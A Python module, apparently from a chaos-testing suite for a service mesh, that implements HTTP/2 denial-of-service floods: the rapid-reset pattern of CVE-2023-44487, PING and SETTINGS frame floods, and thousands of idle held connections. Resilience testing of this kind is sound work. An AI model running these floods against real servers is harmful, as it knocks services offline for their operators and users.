"""Floods: frames and connections at a high rate, each of them cheap for the attacker."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

from mesh.chaos.people.attack_target import AttackTarget
from mesh.chaos.people.holding import hold_connections
from mesh.chaos.people.http2_client import Http2Client
from mesh.chaos.people.observed import Observed

__all__ = ["connections", "pings", "resets", "settings"]

RESET_RATE = 2000
"""Requests a second that are opened and reset."""
CONTROL_RATE = 10_000
"""PING or SETTINGS frames a second."""
CONNECTIONS = 2000
"""Connections without a request."""
TICKS_PER_SECOND = 50


async def resets(target: AttackTarget, observed: Observed) -> None:
    """Open a request and reset it at once, 2,000 times a second (the pattern of CVE-2023-44487)."""

    def send(client: Http2Client) -> None:
        stream = client.ask(target, target.get)
        client.flush()  # a stream that is reset before its HEADERS frame is sent would not be sent at all
        client.reset(stream)

    await _flood(target, observed, RESET_RATE, send)


async def pings(target: AttackTarget, observed: Observed) -> None:
    """Send 10,000 PING frames a second."""
    await _flood(target, observed, CONTROL_RATE, lambda client: client.ping())


async def settings(target: AttackTarget, observed: Observed) -> None:
    """Send 10,000 SETTINGS frames a second."""
    await _flood(target, observed, CONTROL_RATE, lambda client: client.settings(65_535))


async def connections(target: AttackTarget, observed: Observed) -> None:
    """Keep 2,000 connections open and send nothing."""

    async def use(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:  # noqa: ARG001
        await reader.read(1)

    await hold_connections(target, observed, CONNECTIONS, use)


async def _flood(target: AttackTarget, observed: Observed, rate: int, send: Callable[[Http2Client], None]) -> None:
    client = None
    try:
        while True:
            if client is None or not client.free_streams:
                if client is not None:
                    client.close()
                client = await Http2Client.open(target, observed)
            if client is not None:
                for _ in range(rate // TICKS_PER_SECOND):
                    if client.closed or not client.free_streams:
                        break
                    send(client)
                client.flush()
                await client.drained()
            await asyncio.sleep(1 / TICKS_PER_SECOND)
    finally:
        if client is not None:
            client.close()
